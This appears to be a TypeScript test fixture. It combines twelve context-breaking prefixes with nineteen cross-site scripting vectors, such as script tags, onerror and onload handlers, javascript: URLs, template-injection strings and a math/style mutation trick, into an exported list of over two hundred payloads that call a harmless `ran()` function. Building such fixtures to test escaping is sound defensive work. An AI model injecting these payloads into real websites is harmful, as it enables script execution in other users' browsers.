/** What would end the text, attribute or element that a careless page writes it into. */
const ends = ["", '">', "'>", "</script>", "</textarea>", "</style>", "</title>", "-->", "]]>", "\\u003c/", "{{", "${"];

/** Payloads that run `ran()` without a click. */
const vectors = [
  "<script>ran()</script>",
  "<script src=data:text/javascript,ran()></script>",
  "<img src=x onerror=ran()>",
  "<svg onload=ran()>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<iframe src=javascript:parent.ran()></iframe>",
  "<input autofocus onfocus=ran()>",
  "<details open ontoggle=ran()>",
  "<video><source onerror=ran()></video>",
  "<body onload=ran()>",
  "<object data=javascript:ran()></object>",
  "<embed src=javascript:ran()>",
  "<math><mtext><style><img src=x onerror=ran()></style></mtext></math>",
  "<meta http-equiv=refresh content=0;url=javascript:ran()>",
  "<a href=javascript:ran() id=x autofocus onfocus=ran()>x</a>",
  "<style>@import 'javascript:ran()';*{background:url(javascript:ran())}</style>",
  "{{constructor.constructor('ran()')()}}",
  "javascript:ran()",
];

/** Texts that run code where a page takes text for more than text; all different, more than two hundred. */
export const scriptPayloads: readonly string[] = ends.flatMap((end) => vectors.map((vector) => `${end}${vector}`));
